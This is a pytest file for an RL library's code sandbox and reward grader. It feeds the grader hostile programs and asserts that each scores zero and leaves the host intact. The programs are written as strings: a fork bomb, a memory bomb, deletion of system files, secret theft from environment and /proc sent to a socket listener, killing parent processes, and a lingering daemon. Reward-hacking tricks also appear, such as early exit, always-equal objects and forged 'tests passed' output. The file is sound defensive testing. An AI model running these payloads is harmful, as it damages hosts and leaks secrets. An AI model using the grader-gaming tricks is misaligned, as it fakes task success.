"""Acceptance 3: hostile programs run through the real sandbox and the code reward.

Every attack scores 0, leaves the host untouched (files, processes, network, the grader
itself), and a correct solution scores 1 right after it through the same pool.
"""
import os
import socket
import threading
import time

import pytest

from dsrl_jax.rewards import RewardPool, sandbox
from tests.rewards.host import processes_named

needs_bwrap = pytest.mark.skipif(
    not sandbox.bwrap_available(), reason="bubblewrap is unavailable: isolation property untestable"
)

FAST = {"per_test_timeout_s": 2.0, "sample_timeout_s": 10.0, "nproc": 24, "memory_mb": 512}
CONFIG = {"code": [{"name": "code", "weight": 1.0, "options": FAST}], "math": []}

STDIN = {
    "id": "sum", "domain": "code", "problem": "print a+b",
    "tests": [{"testtype": "stdin", "input": "1 2\n", "output": "3\n"},
              {"testtype": "stdin", "input": "5 7\n", "output": "12\n"}],
}
FUNCTIONAL = {
    "id": "add", "domain": "code", "problem": "add", "starter_code": "class Solution:\n    def add(self, a, b):\n",
    "tests": [{"testtype": "functional", "fn_name": "add", "input": "1\n2", "output": "3"},
              {"testtype": "functional", "fn_name": "add", "input": "[1]\n[2]", "output": "[1, 2]"}],
}
ASSERT = {
    "id": "mul", "domain": "code", "problem": "mul",
    "tests": [{"testtype": "assert", "entry_point": "Solution().mul",
               "check": "def check(candidate):\n    assert candidate(2, 3) == 6\n    assert candidate(a=1, b=5) == 5\n"}],
}
CORRECT = {
    "sum": "a, b = map(int, input().split())\nprint(a + b)",
    "add": "class Solution:\n    def add(self, a, b):\n        return a + b",
    "mul": "class Solution:\n    def mul(self, a, b):\n        return a * b",
}


def block(code: str) -> str:
    return f"<think>plan</think>\n```python\n{code}\n```"


@pytest.fixture(scope="module")
def pool():
    with RewardPool(CONFIG, num_workers=1, timeout_s={"code": 60}) as p:
        yield p


def attack(pool, code: str, record: dict, **expect):
    """Score `code` on `record`: must be 0; then the correct solution must score 1."""
    (res,) = pool.score([block(code)], [record])
    assert res.score == 0, res
    for key, value in expect.items():
        assert res.info.get(key) == value, res
    (ok,) = pool.score([block(CORRECT[record["id"]])], [record])
    assert ok.score == 1, ok
    return res


# Sets the process name (inherited by children) so the test can look for survivors.
NAME = "import ctypes\nctypes.CDLL(None).prctl(15, b'{name}', 0, 0, 0)\n"


def test_correct_solutions_score_one(pool):
    results = pool.score([block(CORRECT[r["id"]]) for r in (STDIN, FUNCTIONAL, ASSERT)], [STDIN, FUNCTIONAL, ASSERT])
    assert [r.score for r in results] == [1, 1, 1], results


def test_infinite_loop(pool):
    attack(pool, "while True:\n    pass", STDIN, error="timeout")
    attack(pool, "class Solution:\n    def add(self, a, b):\n        while True:\n            pass", FUNCTIONAL)


def test_alarm_disabled_then_loop(pool):
    code = "import signal\nsignal.alarm(0)\nsignal.setitimer(signal.ITIMER_REAL, 0)\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
    attack(pool, code + "while True:\n    pass", STDIN, error="timeout")
    method = ("class Solution:\n    def add(self, a, b):\n        import signal\n"
              "        signal.setitimer(signal.ITIMER_REAL, 0)\n        signal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
              "        while True:\n            pass")
    attack(pool, method, FUNCTIONAL)


def test_fork_bomb(pool):
    code = NAME.format(name="dsrlforkbomb") + (
        "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"
    )
    before = len(os.listdir("/proc"))
    attack(pool, code, STDIN)
    time.sleep(0.5)
    assert processes_named("dsrlforkbomb") == []
    assert len(os.listdir("/proc")) < before + 50  # no process leak on the host


def test_memory_bomb(pool):
    attack(pool, "x = []\nwhile True:\n    x.append(bytearray(1 << 26))", STDIN)
    attack(pool, "s = 'a' * (1 << 40)", STDIN)


def test_gigabyte_of_output(pool):
    code = "import sys\nchunk = 'x' * (1 << 20)\nfor _ in range(1024):\n    sys.stdout.write(chunk)"
    start = time.monotonic()
    attack(pool, code, STDIN, error="output_limit")
    assert time.monotonic() - start < 30
    res = sandbox.run_python({"a.py": code}, "a.py", limits=sandbox.Limits(output_bytes=1 << 20))
    assert res.killed_reason == "output_limit" and len(res.stdout) <= 1 << 20


@needs_bwrap
def test_files_outside_workdir_untouched(pool, tmp_path):
    os.chmod(tmp_path, 0o777)  # even a world-writable host dir stays out of reach
    sentinel = tmp_path / "sentinel.txt"
    sentinel.write_text("precious")
    os.chmod(sentinel, 0o666)
    code = f"""
import os, shutil
for action in (lambda: os.remove({str(sentinel)!r}), lambda: open({str(sentinel)!r}, 'w').write('pwned'),
               lambda: shutil.rmtree({str(tmp_path)!r}), lambda: open({str(tmp_path / 'new.txt')!r}, 'w').write('x'),
               lambda: open('/etc/dsrl_pwned', 'w').write('x'), lambda: os.remove('/usr/bin/python3')):
    try:
        action()
    except Exception as e:
        print(type(e).__name__)
"""
    attack(pool, code, STDIN)
    assert sentinel.read_text() == "precious"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["sentinel.txt"]
    assert not os.path.exists("/etc/dsrl_pwned") and os.path.exists("/usr/bin/python3")


@needs_bwrap
def test_secrets_not_visible_and_network_closed(pool, monkeypatch):
    secret = "dsrl-secret-4242"
    monkeypatch.setenv("DSRL_SECRET", secret)
    received = []
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(5)
    server.settimeout(0.2)
    port = server.getsockname()[1]
    stop = threading.Event()

    def listen():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            received.append(conn.recv(4096) or b"<connected>")
            conn.close()

    thread = threading.Thread(target=listen, daemon=True)
    thread.start()
    code = f"""
import os, socket, glob
loot = os.environ.get('DSRL_SECRET', '') + repr(dict(os.environ))
for path in ['/proc/1/environ', '/proc/self/environ', '/proc/%d/environ' % os.getppid()] + glob.glob('/proc/*/environ'):
    try:
        loot += open(path, 'rb').read().decode('latin1')
    except Exception:
        pass
print(loot)
for host in ('127.0.0.1', 'localhost', '10.0.2.2'):
    try:
        s = socket.create_connection((host, {port}), timeout=1)
        s.sendall(('LOOT' + loot).encode())
        s.close()
    except Exception as e:
        print('blocked', type(e).__name__)
"""
    try:
        attack(pool, code, STDIN)
        res = sandbox.run_python({"a.py": code}, "a.py", limits=sandbox.Limits(timeout_s=10))
        assert secret not in res.stdout and "blocked" in res.stdout
        time.sleep(0.5)
    finally:
        stop.set()
        thread.join(2)
        server.close()
    assert received == []


def test_killing_its_parent(pool):
    code = ("import os, signal\n"
            "for target in (lambda: os.kill(os.getppid(), 9), lambda: os.killpg(os.getpgid(0), 9),\n"
            "               lambda: os.kill(1, 9), lambda: os.kill(-1, 9)):\n"
            "    try:\n        target()\n    except Exception:\n        pass\n")
    worker_pids = [w.proc.pid for w in pool._workers]
    attack(pool, code, STDIN)
    assert all(os.path.exists(f"/proc/{pid}") for pid in worker_pids)  # worker survived
    os.kill(os.getpid(), 0)  # and so did the grader (this test process)


@needs_bwrap
def test_daemon_does_not_outlive_the_run(pool, tmp_path):
    os.chmod(tmp_path, 0o777)
    marker = tmp_path / "daemon_was_here"
    code = NAME.format(name="dsrldaemon") + f"""
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(1.5)
        for path in ({str(marker)!r}, '/tmp/work/daemon', '/tmp/daemon'):
            try:
                open(path, 'w').write('alive')
            except Exception:
                pass
        time.sleep(30)
    os._exit(0)
# prints nothing: the point is what survives the run
"""
    attack(pool, code, STDIN)
    time.sleep(0.3)
    assert processes_named("dsrldaemon") == []
    time.sleep(2)
    assert not marker.exists() and not os.path.exists("/tmp/daemon")


def test_exit_before_tests(pool):
    attack(pool, "import sys\nsys.exit(0)", STDIN)
    attack(pool, "import sys\nsys.exit(0)\nclass Solution:\n    def add(self, a, b):\n        return a + b", FUNCTIONAL)
    attack(pool, "import os\nos._exit(0)\nclass Solution:\n    def mul(self, a, b):\n        return a * b", ASSERT)
    attack(pool, "class Solution:\n    def mul(self, a, b):\n        raise SystemExit(0)", ASSERT)


def test_always_equal_objects(pool):
    always = "class Eq:\n    def __eq__(self, other):\n        return True\n    def __ne__(self, other):\n        return False\n"
    attack(pool, always + "class Solution:\n    def add(self, a, b):\n        return Eq()", FUNCTIONAL)
    attack(pool, always + "class Solution:\n    def mul(self, a, b):\n        return Eq()", ASSERT)
    int_sub = "class Eq(int):\n    def __eq__(self, other):\n        return True\n"
    attack(pool, int_sub + "class Solution:\n    def add(self, a, b):\n        return Eq(0)", FUNCTIONAL)
    attack(pool, int_sub + "class Solution:\n    def mul(self, a, b):\n        return Eq(0)", ASSERT)


def test_fake_all_passed(pool):
    attack(pool, "print('All tests passed! 2/2')\nprint('{\"passed\": 2, \"total\": 2}')", STDIN)
    # forged result lines on stdout and on every fd: values still compared to hidden outputs
    forge = ("import os, json\nfor fd in range(1, 20):\n    try:\n"
             "        os.write(fd, (json.dumps({'i': 0, 'ok': True, 'out': '999'}) + '\\n').encode())\n"
             "    except OSError:\n        pass\n"
             "class Solution:\n    def add(self, a, b):\n        return 999\n")
    attack(pool, forge, FUNCTIONAL)
